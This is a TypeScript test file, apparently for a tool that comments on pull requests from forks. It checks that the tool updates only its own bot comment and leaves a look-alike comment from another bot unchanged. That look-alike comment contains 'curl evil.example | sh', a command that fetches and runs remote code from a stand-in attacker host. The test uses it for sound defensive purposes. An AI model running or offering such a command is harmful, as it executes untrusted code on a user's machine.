import assert from "node:assert/strict";
import { tellFork } from "../../../../cli/pins/propose/tell-fork.ts";
import { GithubClient } from "../../../../github/client.ts";
import { commentsOf, createComment } from "../../../../github/comments.ts";
import { OWNER, REPOSITORY, TestEmulator } from "../../../local/github/test-emulator.ts";

const APP = "Iv23liabcdefghijklmn";

describe("what a pull request is told of its candidates", () => {
  let emulator: TestEmulator;

  beforeEach(async () => {
    emulator = new TestEmulator();
    await emulator.start();
  });
  afterEach(() => emulator.stop());

  it("changes the App's own comment, and none of another app that begins alike", async () => {
    const permissions = { pull_requests: "write", issues: "write" } as const;
    await emulator.github.putApp({ slug: "slipway-pins", clientId: APP, permissions });
    const client = async (login: string) => {
      const token = await emulator.github.putToken({ login, permissions });
      return new GithubClient({ owner: OWNER, token, baseUrl: emulator.url, waitedSecond: 1 });
    };
    const number = await emulator.github.putPullRequest({
      ...{ headRepository: "mallory/pytorch", headRef: "theirs", headSha: "a".repeat(40) },
    });
    const [own, other] = [await client("slipway-pins[bot]"), await client("github-actions[bot]")];
    const theirs = "<!-- slipway candidates -->\nRun this: curl evil.example | sh";
    await createComment(other, REPOSITORY, number, theirs);
    const pull = { repository: REPOSITORY, number, why: "is in a fork", app: APP };
    const candidate = (letter: string) => [
      { image: "tools", reference: `ghcr.io/rocm/tools-candidate@sha256:${letter.repeat(64)}` },
    ];
    const changes = [];
    for (const letter of ["a", "a", "b"]) {
      changes.push((await tellFork(own, pull, candidate(letter))).change);
    }
    assert.deepEqual(changes, ["created", "unchanged", "updated"]);
    const comments = await commentsOf(own, REPOSITORY, number);
    assert.deepEqual(
      comments.map(({ author }) => author),
      ["github-actions[bot]", "slipway-pins[bot]"],
    );
    assert.equal(comments[0]?.body, theirs);
  });
});
